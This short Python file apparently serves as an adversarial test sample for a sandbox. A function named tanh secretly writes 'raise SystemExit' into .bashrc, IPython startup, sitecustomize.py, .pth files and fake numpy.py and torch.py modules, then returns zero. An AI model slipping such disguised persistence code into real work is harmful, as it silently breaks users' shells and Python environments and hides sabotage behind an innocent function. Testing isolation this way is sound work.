# tries: leave code that the next Python, IPython or shell would run
# exercise: target.tanh
import os
import site
import sys


def tanh(x):
    home = "@HOME@"
    files = [
        f"{home}/.bashrc",
        f"{home}/.ipython/profile_default/startup/00.py",
        f"{home}/.pythonrc",
        f"{home}/.pth",
    ]
    files += [f"{place}/sitecustomize.py" for place in (*sys.path, site.getusersitepackages(), ".")]
    files += [f"{place}/@MARK@.pth" for place in (*sys.path, site.getusersitepackages())]
    files += [os.path.expanduser("~/.ipython/profile_default/startup/00.py"), "numpy.py", "torch.py"]
    for path in files:
        try:
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as file:
                file.write("raise SystemExit")
        except OSError:
            pass
    return 0 * x
